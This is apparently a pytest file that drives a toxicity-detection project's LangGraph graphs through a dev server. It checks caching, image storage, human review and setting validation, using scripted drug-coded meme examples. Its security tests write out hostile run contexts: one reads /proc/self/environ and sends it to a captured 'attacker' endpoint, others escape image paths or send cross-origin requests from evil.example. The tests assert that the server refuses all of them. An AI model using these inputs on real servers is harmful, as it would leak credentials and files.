"""Every graph under `langgraph dev`, started exactly as README.md says, driven through `langgraph_sdk` as Studio is.

One server serves the whole module (see `langgraph_server` in conftest.py): default environment, so the response
cache and the image store are on at their default places under the server's HOME and the server's blocking-call
guard is active. Models come from the scripted provider, images from a tiny random-weight Stable Diffusion.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

pytestmark = pytest.mark.slow

GRAPHS = ("tag", "vanilla", "ipr", "ctd")
ROOT = Path(__file__).resolve().parents[2]

TAG_SCRIPT: dict[str, Any] = {
    "root_extractor.image": [{"when": "", "then": {"entities": [{"name": "white powder"}]}}],
    "root_extractor.text": [{"when": "", "then": {"entities": [{"name": "text the usual number"}]}}],
    "root_judge": [{"when": "", "then": {"toxic": False}}],
    "expander.visual": [
        {
            "when": "",
            "then": {
                "expansions": [
                    {
                        "parent_id": "v0.0",
                        "children": [
                            {"concept": "cocaine", "association": "similarity", "probability": 0.4},
                            {"concept": "flour", "association": "similarity", "probability": 0.6},
                        ],
                    }
                ]
            },
        }
    ],
    "expander.textual": [
        {
            "when": "",
            "then": {
                "expansions": [
                    {
                        "parent_id": "t0.0",
                        "children": [
                            {"concept": "dealer contact", "association": "cultural", "probability": 0.5},
                            {"concept": "friend", "association": "categorical", "probability": 0.5},
                        ],
                    }
                ]
            },
        }
    ],
    "pair_judge": [
        {"when": "", "then": {"toxic_pairs": [{"pair_id": "v1.1|t1.0", "category": "drugs", "reason": "drug sale"}]}}
    ],
    "explainer": [
        {
            "when": "",
            "then": {"explanation": "white powder -> cocaine; number -> dealer", "hidden_meaning": "drug sale"},
        }
    ],
    "vanilla_detector": [{"when": "", "then": {"toxic": False, "reason": "looks benign"}}],
}


def write_json(path: Path, data: Any) -> Path:
    """Write `data` as JSON and return the path."""
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


@pytest.fixture
def client(langgraph_server: Any) -> Any:
    """An SDK client of the module's server (one per test: its connections belong to the test's event loop)."""
    from langgraph_sdk import get_client

    return get_client(url=langgraph_server.url)


@pytest.fixture(scope="module")
def tiny_sd(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A tiny random-weight Stable Diffusion folder, as a generator spec."""
    from tests.tiny import build_tiny_sd

    return "diffusers:" + build_tiny_sd(tmp_path_factory.mktemp("tiny_sd") / "sd")


async def run(client: Any, graph: str, input: Any = None, **kw: Any) -> tuple[str, dict[str, Any]]:
    """One run on a fresh thread: (thread id, output or `{"__error__": ...}`)."""
    thread = await client.threads.create()
    out = await client.runs.wait(thread["thread_id"], graph, input=input, raise_error=False, **kw)
    return thread["thread_id"], out


async def run_each(client: Any, calls: list[tuple[str, Any, dict[str, Any]]]) -> list[dict[str, Any]]:
    """Independent runs (graph, input, keywords of `run`) sent at once, each on a thread of its own; their outputs in
    the calls' order. The server runs them side by side: one after another, a test of a dozen refusals waited on
    each run's round trip in turn."""
    import asyncio

    done = await asyncio.gather(*(run(client, graph, input, **kw) for graph, input, kw in calls))
    return [out for _, out in done]


def error_of(out: dict[str, Any]) -> str:
    """The error message a failed run shows the client ("" when it did not fail)."""
    err = out.get("__error__") if isinstance(out, dict) else None
    return f"{err.get('error')}: {err.get('message')}" if err else ""


async def assistant_ids(client: Any) -> dict[str, str]:
    """Graph id -> its default assistant's id."""
    return {a["graph_id"]: a["assistant_id"] for a in await client.assistants.search(limit=50)}


async def test_every_graph_exports_its_input_output_and_context_schemas(client: Any) -> None:
    ids = await assistant_ids(client)
    assert set(GRAPHS) <= set(ids)
    expected_input = {"tag": "text", "vanilla": "text", "ipr": "prompt", "ctd": "category"}
    expected_output = {"tag": "mtc", "vanilla": "toxic", "ipr": "trajectory", "ctd": "status"}
    expected_context = {"tag": "l_max", "vanilla": "vanilla_detector_model", "ipr": "t_max", "ctd": "n_blind"}
    for name in GRAPHS:
        schemas = await client.assistants.get_schemas(ids[name])
        for kind, expected in (
            ("input_schema", expected_input),
            ("output_schema", expected_output),
            ("context_schema", expected_context),
        ):
            schema = schemas.get(kind)
            assert schema and expected[name] in schema.get("properties", {}), f"{name}: {kind} is {schema!r}"
        assert "image_roots" not in schemas["context_schema"]["properties"]  # the server's setting, not a run's


async def test_tag_and_vanilla_with_an_image_in_the_default_store_and_cache(
    client: Any, langgraph_server: Any, tmp_path: Path
) -> None:
    data = langgraph_server.images / "tag-and-vanilla"
    data.mkdir()
    Image.new("RGB", (24, 16), (250, 250, 245)).save(data / "powder.png")
    spec = f"scripted:{write_json(tmp_path / 'script.json', TAG_SCRIPT)}"
    sample = {
        "image": str(data / "powder.png"),
        "image_description": "a bag of white powder",
        "text": "Fresh batch. Text the usual number.",
    }
    thread_id, out = await run(client, "tag", sample, context={"model": spec, "l_max": 3, "children_per_parent": 2})
    assert not error_of(out), error_of(out)
    assert out["toxic"] is True and out["mtc"] == pytest.approx(1 - 0.4 * 0.5)
    assert out["finding"]["visual"]["concept"] == "cocaine"
    assert out["usage"]["total"]["calls"] == 7  # two root graphs, synergy review, 1 layer (2 + 1), explainer
    # The image went to the default store under the server's HOME; the cache file was created there too.
    cache = langgraph_server.home / ".cache" / "unveil"
    assert Path(out["image_path"]).is_file() and cache / "images" in Path(out["image_path"]).parents
    assert (cache / "responses.sqlite").is_file()
    # Server state and checkpoints hold ids and text, never image data.
    state = await client.threads.get_state(thread_id)
    assert "data:image" not in json.dumps(state)

    _, van = await run(client, "vanilla", sample, context={"model": spec})
    assert not error_of(van), error_of(van)
    assert van["toxic"] is False and van["usage"]["total"]["calls"] == 1


async def test_figure6_with_the_default_context_under_the_real_server(client: Any, tmp_path: Path) -> None:
    # The TAG paper's worked example with only the model filled in, as a Studio user runs it: MTC 0.9973.
    from tests.graphs.test_tag_figure6 import SAMPLE, figure6_script

    script, pair = figure6_script()
    spec = f"scripted:{write_json(tmp_path / 'figure6.json', script)}"
    _, out = await run(client, "tag", SAMPLE, context={"model": spec})
    assert not error_of(out), error_of(out)
    assert out["toxic"] is True and round(out["mtc"], 4) == 0.9973
    assert f"{out['finding']['visual']['id']}|{out['finding']['textual']['id']}" == pair


async def test_an_edited_script_answers_the_next_run_without_a_restart(client: Any, tmp_path: Path) -> None:
    script = write_json(tmp_path / "edited.json", {"vanilla_detector": [{"when": "", "then": {"toxic": False}}]})
    sample = {"image_description": "a glass of water", "text": "Cheers."}
    _, first = await run(client, "vanilla", sample, context={"model": f"scripted:{script}"})
    assert not error_of(first) and first["toxic"] is False, error_of(first)
    write_json(script, {"vanilla_detector": [{"when": "", "then": {"toxic": True, "reason": "edited"}}]})
    _, second = await run(client, "vanilla", sample, context={"model": f"scripted:{script}"})
    assert not error_of(second), error_of(second)
    # the same server process, the default cache on: the edit is seen at the next call
    assert second["toxic"] is True and second["usage"]["total"]["calls"] == 1


async def test_image_paths_outside_the_allowed_roots_are_refused(client: Any, tmp_path: Path) -> None:
    secret = tmp_path / "elsewhere" / "secret.png"
    secret.parent.mkdir()
    Image.new("RGB", (8, 8)).save(secret)
    spec = f"scripted:{write_json(tmp_path / 'script.json', TAG_SCRIPT)}"
    # Neither an absolute path nor a caller-chosen base_dir opens a folder the settings do not allow.
    samples = (
        {"image": str(secret), "text": "hi"},
        {"image": "secret.png", "base_dir": str(secret.parent), "text": "hi"},
    )
    # Nor can a run's context widen the server's folders: image_roots is not a setting, image_store grants none.
    contexts = (
        {"model": spec, "image_roots": ["/"]},
        {"model": spec, "image_store": "/"},
        {"model": spec, "image_store": str(secret.parent)},
    )
    for graph in ("tag", "vanilla"):
        outs = await run_each(
            client,
            [(graph, sample, {"context": {"model": spec}}) for sample in samples]
            + [(graph, {"image": str(secret), "text": "hi"}, {"context": context}) for context in contexts],
        )
        for out in outs[: len(samples)]:
            message = error_of(out)
            assert "image" in message and "outside the allowed image folders" in message, message
        for context, out in zip(contexts, outs[len(samples) :], strict=True):
            message = error_of(out)
            # image_roots is refused as an unknown setting before the run; an image_store outside the server's
            # folders is refused (it would be created there), and one inside them opens no folder.
            refusal = (
                "image_roots: unknown setting"
                if "image_roots" in context
                else "image_store: '/' is outside the folders"
                if context["image_store"] == "/"
                else "outside the allowed image folders"
            )
            assert refusal in message, (context, message)


async def test_ipr_renders_and_refines(client: Any, tiny_sd: str, tmp_path: Path) -> None:
    script = write_json(
        tmp_path / "script.json",
        {"refiner.0": ["<reason>gore</reason><answer>a calm meadow</answer>"], "refiner.1": ["[keep]"]},
    )
    context = {"refiner_model": f"scripted:{script}", "generator": tiny_sd, "width": 32, "height": 32, "steps": 2}
    thread_id, out = await run(client, "ipr", {"prompt": "a gory battlefield"}, context=context)
    assert not error_of(out), error_of(out)
    assert [s["prompt"] for s in out["trajectory"]] == ["a gory battlefield", "a calm meadow"]
    assert out["keep_step"] == 1 and out["stop_reason"] == "keep"
    assert Path(out["final_image_path"]).is_file()
    state = await client.threads.get_state(thread_id)
    assert "data:image" not in json.dumps(state)


def ctd_script() -> dict[str, Any]:
    """A CTD script under which the scene is accepted on its first round."""
    from tests.graphs.test_ctd import accepting_script

    return accepting_script()


async def test_ctd_review_shows_a_thumbnail_and_survives_an_invalid_answer(
    client: Any, tiny_sd: str, tmp_path: Path
) -> None:
    spec = f"scripted:{write_json(tmp_path / 'script.json', ctd_script())}"
    ctx = {
        "model": spec,
        "generator": tiny_sd,
        "width": 64,
        "height": 64,
        "steps": 2,
        "web_search": False,
        "review": "interrupt",
    }
    thread_id, first = await run(client, "ctd", {"id": "srv-1", "category": "drugs", "seed": 3}, context=ctx)
    assert not error_of(first), error_of(first)
    state = await client.threads.get_state(thread_id)
    assert state["next"] == ["human_review"]
    shown = state["interrupts"][0]["value"]
    assert shown["text"].startswith("CAPTION-A:") and shown["erasure_reason"].startswith("cocaine -> flour")
    assert len(shown["votes"]) == 6 and Path(shown["image_path"]).is_file()
    # A viewable thumbnail rides in the interrupt value only, never in the graph's state.
    thumb = shown["thumbnail"]
    assert thumb.startswith("data:image/jpeg;base64,") and len(thumb) < 64_000
    raw = base64.b64decode(thumb.split(",", 1)[1])
    assert raw[:2] == b"\xff\xd8"
    assert "data:image" not in json.dumps(state["values"])

    # An invalid decision pauses again with the error, instead of failing the thread for good.
    bad = await client.runs.wait(
        thread_id, "ctd", command={"resume": {"decision": "maybe"}}, context=ctx, raise_error=False
    )
    assert not error_of(bad), error_of(bad)
    state = await client.threads.get_state(thread_id)
    assert state["next"] == ["human_review"]
    again = state["interrupts"][0]["value"]
    assert "maybe" in again["error"] and again["thumbnail"].startswith("data:image/jpeg")

    final = await client.runs.wait(
        thread_id,
        "ctd",
        command={"resume": {"decision": "approve", "note": "subtle enough"}},
        context=ctx,
        raise_error=False,
    )
    assert not error_of(final), error_of(final)
    assert final["status"] == "accepted" and (final["review"]["status"], final["review"]["note"]) == (
        "approved",
        "subtle enough",
    )
    assert [r["status"] for r in final["review"]["reviews"]] == ["approved"]  # the invalid answer is not a review
    assert final["rounds"] == 1 and final["decision"]["accepted"]
    state = await client.threads.get_state(thread_id)
    assert "data:image" not in json.dumps(state["values"])


async def test_ctd_review_in_studio_and_the_web_app_agree(
    client: Any, langgraph_server: Any, tiny_sd: str, tmp_path: Path
) -> None:
    from unveil.ui.sources import CtdSource

    spec = f"scripted:{write_json(tmp_path / 'script.json', ctd_script())}"
    ctx = {
        "model": spec,
        "generator": tiny_sd,
        "width": 32,
        "height": 32,
        "steps": 2,
        "web_search": False,
        "review": "interrupt",
    }
    web = CtdSource(langgraph_server.review_dir)
    # Decided in the web app: the paused run takes that decision when resumed without one of its own.
    thread_id, first = await run(client, "ctd", {"id": "srv-2", "category": "drugs", "seed": 5}, context=ctx)
    assert not error_of(first), error_of(first)
    sid = (await client.threads.get_state(thread_id))["interrupts"][0]["value"]["review_id"]
    card = web.record(sid)
    assert card is not None and card["status"] == "pending_review" and card["image_id"]
    web.decide(sid, "reject", "too plain", ("alice", "local"))
    out = await client.runs.wait(thread_id, "ctd", command={"resume": "web"}, context=ctx, raise_error=False)
    assert not error_of(out), error_of(out)
    assert out["status"] == "rejected" and [r["reviewer"] for r in out["review"]["reviews"]] == ["alice"]
    # Decided in Studio: the web app shows it, and the decisions file names the reviewer.
    thread_id, _ = await run(client, "ctd", {"id": "srv-3", "category": "drugs", "seed": 6}, context=ctx)
    sid = (await client.threads.get_state(thread_id))["interrupts"][0]["value"]["review_id"]
    out = await client.runs.wait(
        thread_id, "ctd", command={"resume": {"decision": "approve", "reviewer": "bob"}}, context=ctx, raise_error=False
    )
    assert not error_of(out), error_of(out)
    assert out["status"] == "accepted"
    assert web.record(sid)["status"] == "accepted" and web.record(sid)["judgements"] == {"bob": "approve"}
    log = [json.loads(x) for x in (langgraph_server.review_dir / "decisions.jsonl").read_text().splitlines()]
    assert [(x["id"], x["reviewer"]) for x in log][-1] == (sid, "bob")


async def test_ctd_send_back_in_studio_gives_the_eraser_another_attempt(
    client: Any, langgraph_server: Any, tiny_sd: str, tmp_path: Path
) -> None:
    from tests.graphs.test_ctd import base_script, erasure, merge, panel_rules

    # The Eraser answers B once the reviewer's note is in its request, else A; the panel accepts both.
    eraser = [{"when": "NOTE-SRV", "then": erasure("B")}, {"when": "", "then": erasure("A")}]
    script = merge(base_script(eraser), panel_rules("A"), panel_rules("B"))
    spec = f"scripted:{write_json(tmp_path / 'script.json', script)}"
    ctx = {
        "model": spec,
        "generator": tiny_sd,
        "width": 32,
        "height": 32,
        "steps": 2,
        "web_search": False,
        "review": "interrupt",
    }
    thread_id, first = await run(client, "ctd", {"id": "srv-4", "category": "drugs", "seed": 8}, context=ctx)
    assert not error_of(first), error_of(first)
    shown = (await client.threads.get_state(thread_id))["interrupts"][0]["value"]
    assert shown["text"].startswith("CAPTION-A:") and "'send_back'" in shown["question"]
    # A send back without its note is asked again, naming the field.
    out = await client.runs.wait(
        thread_id, "ctd", command={"resume": {"decision": "send_back"}}, context=ctx, raise_error=False
    )
    assert not error_of(out), error_of(out)
    assert "note is empty" in (await client.threads.get_state(thread_id))["interrupts"][0]["value"]["error"]
    answer = {"decision": "send_back", "note": "NOTE-SRV: the scale gives it away", "reviewer": "ann"}
    out = await client.runs.wait(thread_id, "ctd", command={"resume": answer}, context=ctx, raise_error=False)
    assert not error_of(out), error_of(out)
    state = await client.threads.get_state(thread_id)
    assert state["next"] == ["human_review"]
    again = state["interrupts"][0]["value"]
    assert again["text"].startswith("CAPTION-B:") and again["rounds"] == 2
    assert state["values"]["feedback_history"][-1]["feedback"] == answer["note"]
    log = [json.loads(x) for x in (langgraph_server.review_dir / "decisions.jsonl").read_text().splitlines()]
    assert [(x["id"], x["decision"], x.get("send_back")) for x in log][-1] == (again["review_id"], "reject", True)
    final = await client.runs.wait(
        thread_id, "ctd", command={"resume": {"decision": "approve", "reviewer": "ann"}}, context=ctx, raise_error=False
    )
    assert not error_of(final), error_of(final)
    assert final["status"] == "accepted" and final["text"].startswith("CAPTION-B:")
    assert [(b["reviewer"], b["round"]) for b in final["sent_back"]] == [("ann", 1)]


async def test_context_is_validated_with_errors_naming_the_field(client: Any, tmp_path: Path) -> None:
    spec = f"scripted:{write_json(tmp_path / 'script.json', TAG_SCRIPT)}"
    sample = {"image_description": "a bag of white powder", "text": "Fresh batch. Text the usual number."}
    bad: dict[str, tuple[dict[str, Any], str]] = {
        "l_max": ({"l_max": 0}, "l_max"),
        "k_max": ({"k_max": "many"}, "k_max"),
        "children": ({"children_per_parent": -1}, "children_per_parent"),
        "types": ({"association_types": []}, "association_types"),
        "unknown type": ({"association_types": ["telepathic"]}, "telepathic"),
        "misspelt setting": ({"l_maxx": 3}, "l_maxx: unknown setting(s) of TagContext"),
    }
    typed, empty, *outs, ipr_typo, no_script, no_key, ipr_bad, ctd_bad = await run_each(
        client,
        [
            # A number typed as text is read as the number; null for a list means its default.
            ("tag", sample, {"context": {"model": spec, "l_max": "2", "association_types": None}}),
            # An empty field means its default, as the README says (not an error).
            ("tag", sample, {"context": {"model": spec, "l_max": "", "k_max": None}}),
            *[("tag", sample, {"context": {"model": spec, **extra}}) for extra, _ in bad.values()],
            ("ipr", {"prompt": "a cat"}, {"context": {"refiner_modle": spec}}),
            ("vanilla", sample, {"context": {"model": f"scripted:{tmp_path / 'nope.json'}"}}),
            ("vanilla", sample, {"context": {"model": "openai:gpt-4.1-mini"}}),
            ("ipr", {"prompt": "a cat"}, {"context": {"t_max": -1, "generator": "diffusers:/nowhere"}}),
            ("ctd", {"category": "drugs"}, {"context": {"n_blind": "x", "model": spec}}),
        ],
    )
    assert not error_of(typed), error_of(typed)
    assert typed["layers_expanded"] == 1
    assert not error_of(empty), error_of(empty)
    for (label, (_, needle)), out in zip(bad.items(), outs, strict=True):
        assert needle in error_of(out) and "internal error" not in error_of(out), (label, error_of(out))
    assert "refiner_modle" in error_of(ipr_typo) and "refiner_model" in error_of(ipr_typo), error_of(ipr_typo)
    assert "script file" in error_of(no_script) and "nope.json" in error_of(no_script), error_of(no_script)
    assert "OPENAI_API_KEY" in error_of(no_key), error_of(no_key)
    assert "t_max" in error_of(ipr_bad), error_of(ipr_bad)
    assert "n_blind" in error_of(ctd_bad), error_of(ctd_bad)


async def test_the_readme_shows_the_addresses_the_server_prints(client: Any, langgraph_server: Any) -> None:
    import re

    from tests.conftest import ROOT, STUDIO_PORT_IN_README

    # (the `client` fixture is there to be sure the server is up and has printed its banner)
    assert await client.assistants.search(limit=1)
    printed = re.sub(r"\x1b\[[0-9;]*m", "", langgraph_server.log.read_text(errors="replace"))
    port = langgraph_server.url.rsplit(":", 1)[1]
    found = {name: re.search(rf"{name}: (\S+)", printed) for name in ("Studio UI", "API", "API Docs")}
    assert all(found.values()), printed[:2000]
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for name, match in found.items():
        assert match is not None
        documented = match.group(1).replace(f":{port}", f":{STUDIO_PORT_IN_README}")
        assert f"`{documented}`" in readme, (name, documented)
    assert found["Studio UI"] is not None and found["Studio UI"].group(1).startswith(
        "https://smith.langchain.com/studio/"
    )


class CaptureServer:
    """A tiny HTTP server on loopback that records every request it gets (the attacker's endpoint)."""

    def __init__(self) -> None:
        import http.server
        import threading

        self.requests: list[tuple[str, str, dict[str, str], bytes]] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                size = int(self.headers.get("content-length") or 0)
                outer.requests.append((self.command, self.path, dict(self.headers), self.rfile.read(size)))
                self.send_response(500)
                self.end_headers()

            do_GET = do_POST = do_PUT = _record

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


async def test_a_context_cannot_read_server_files_or_choose_an_endpoint(
    client: Any, langgraph_server: Any, tmp_path: Path
) -> None:
    # The attack as it was made: a run's context names the server's environment as the guard's prompt and an
    # endpoint of the caller's as the model, so the server would send the file (and its key) there.
    capture = CaptureServer()
    try:
        script = write_json(tmp_path / "script.json", {"guard.llama-guard-4": [{"when": "", "then": "safe"}]})
        sample = {"image_description": "a glass of water", "text": "Cheers."}
        attacker = f"openai:x@{capture.url}/v1"
        attempts: list[tuple[str, dict[str, Any], str]] = [
            ("guard", {"guard": "template=/proc/self/environ", "model": attacker}, "guard: "),
            ("guard", {"guard": "template=/proc/self/environ", "model": f"scripted:{script}"}, "guard: "),
            # The CLI's spelling (`--method guard:template=FILE`), which the graph reads too (issue 44, item 1).
            ("guard", {"guard": "guard:template=/proc/self/environ", "model": f"scripted:{script}"}, "guard: "),
            ("guard", {"guard": " guard: template=/proc/self/environ", "model": attacker}, "guard: "),
            ("guard", {"model": attacker}, "model: "),
            ("guard", {"guard_model": attacker}, "guard_model: "),
            ("vanilla", {"vanilla_detector_model": attacker}, "vanilla_detector_model: "),
            (
                "tag",
                {"model": f"scripted:{script}", "image_store": "/var/tmp/unveil-made-by-a-context"},
                "image_store: ",
            ),
        ]
        hows = ("context", "configurable")
        calls = [
            (graph, sample, {"context": context} if how == "context" else {"config": {"configurable": context}})
            for graph, context, _ in attempts
            for how in hows
        ]
        outs = iter(await run_each(client, calls))
        for graph, context, field in attempts:
            for how in hows:
                message = error_of(next(outs))
                assert message and field in message, (graph, how, context, message)
                assert "outside the folders" in message or "not one this server allows" in message, message
        assert capture.requests == []  # nothing was sent to the caller's endpoint, with or without a key
        assert not Path("/var/tmp/unveil-made-by-a-context").exists()  # no folder made where a run said
        # The same guard with a template inside the server's folders works: the limit is on where, not what.
        template = tmp_path / "guard.txt"
        template.write_text("Answer safe or unsafe.", encoding="utf-8")
        script2 = write_json(tmp_path / "script2.json", {"guard.guard": [{"when": "", "then": "safe"}]})
        _, out = await run(
            client, "guard", sample, context={"guard": f"template={template}", "model": f"scripted:{script2}"}
        )
        assert not error_of(out), error_of(out)
        assert out["toxic"] is False
    finally:
        capture.close()


def test_the_server_answers_cross_origin_requests_from_studio_only(langgraph_server: Any) -> None:
    import httpx

    preflight = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
    for origin in ("https://evil.example", "http://localhost:8000", "null"):
        for resp in (
            httpx.get(f"{langgraph_server.url}/ok", headers={"Origin": origin}),
            httpx.options(f"{langgraph_server.url}/runs/wait", headers={"Origin": origin, **preflight}),
        ):
            assert "access-control-allow-origin" not in resp.headers, (origin, dict(resp.headers))
    studio = "https://smith.langchain.com"
    resp = httpx.options(f"{langgraph_server.url}/runs/wait", headers={"Origin": studio, **preflight})
    assert resp.status_code == 200 and resp.headers["access-control-allow-origin"] == studio
    assert (
        httpx.get(f"{langgraph_server.url}/ok", headers={"Origin": studio}).headers["access-control-allow-origin"]
        == studio
    )


@pytest.fixture(scope="module")
def example_generator(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The Studio examples' tiny generator, built by their own script (into a temporary folder)."""
    import subprocess
    import sys

    folder = tmp_path_factory.mktemp("examples") / "tiny-sd"
    script = ROOT / "examples" / "studio" / "make_tiny_generator.py"
    proc = subprocess.run([sys.executable, str(script), str(folder)], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return proc.stdout.strip().splitlines()[-1]


@pytest.mark.parametrize("name", ["tag", "ipr", "ctd"])
def test_the_studio_examples_run_as_shipped(langgraph_server: Any, example_generator: str, name: str) -> None:
    # As a newcomer runs them: README's command against the server; only the generator's folder is moved.
    import subprocess
    import sys

    cmd = [sys.executable, "examples/studio/run.py", name, "--url", langgraph_server.url]
    if name != "tag":
        cmd += ["--generator", example_generator]
    proc = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:] + proc.stdout[-3000:]
    out = json.loads(proc.stdout)
    if name == "tag":
        assert out["toxic"] is True and out["finding"]["visual"]["concept"] == "cocaine"
    elif name == "ipr":
        assert out["keep_step"] == 1 and Path(out["final_image_path"]).is_file()
    else:
        assert out["status"] == "accepted" and out["review"]["reviewer"] == "example"
